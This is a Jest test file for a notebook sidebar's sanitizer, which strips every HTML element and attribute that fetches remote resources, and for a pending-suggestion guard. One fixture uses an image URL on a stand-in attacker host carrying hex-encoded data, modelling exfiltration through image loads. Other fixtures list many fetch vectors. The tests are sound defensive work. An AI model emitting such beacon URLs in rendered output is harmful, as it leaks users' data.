/**
 * What the sidebar renders loads nothing: the no-request filter and the
 * pending-suggestion guard.
 */
import { isPendingSuggestion } from '../executor';
import { withoutRequests } from '../norequests';

const PNG = 'data:image/png;base64,iVBORw0KGgo=';

describe('withoutRequests', () => {
  it('drops remote and relative image sources, keeps raster data URLs', () => {
    const out = withoutRequests(
      `<img src="http://evil.example/?d=6b6579" alt="x"><img src="files/a.png"><img src="${PNG}">`
    );
    expect(out).not.toContain('evil.example');
    expect(out).not.toContain('files/a.png');
    expect(out).toContain(PNG);
    expect(out).toContain('image not loaded');
  });

  it('removes every element and attribute that fetches', () => {
    const out = withoutRequests(
      '<link rel="stylesheet" href="http://e.example/a.css">' +
        '<style>@import url(http://e.example/b.css)</style>' +
        '<div style="background: url(http://e.example/c.png)">bg</div>' +
        '<img srcset="http://e.example/d.png 2x">' +
        '<video poster="http://e.example/e.png"></video>' +
        '<svg><image href="http://e.example/f.png"></image><use xlink:href="http://e.example/g.svg#x"></use></svg>' +
        '<iframe src="http://e.example/h"></iframe><object data="http://e.example/i"></object>' +
        '<a href="http://e.example/j" ping="http://e.example/k">link</a>' +
        '<table background="http://e.example/l.png"><tr><td>1</td></tr></table>'
    );
    for (const letter of 'abcdefghikl') {
      expect(out).not.toContain(`e.example/${letter}`);
    }
    // a link stays a link: it is fetched only when followed
    expect(out).toContain('href="http://e.example/j"');
    expect(out).toContain('bg');
    expect(out).toContain('<td>1</td>');
  });
});

describe('isPendingSuggestion', () => {
  const cell = (type: string, tag: unknown) => ({
    type,
    getMetadata: (key: string) =>
      key === 'jupyter_data_agent' ? tag : undefined
  });

  it('is true only for code cells tagged pending', () => {
    expect(isPendingSuggestion(cell('code', { status: 'pending' }))).toBe(true);
    expect(isPendingSuggestion(cell('code', { status: 'accepted' }))).toBe(
      false
    );
    expect(isPendingSuggestion(cell('code', undefined))).toBe(false);
    expect(isPendingSuggestion(cell('markdown', { status: 'pending' }))).toBe(
      false
    );
  });
});
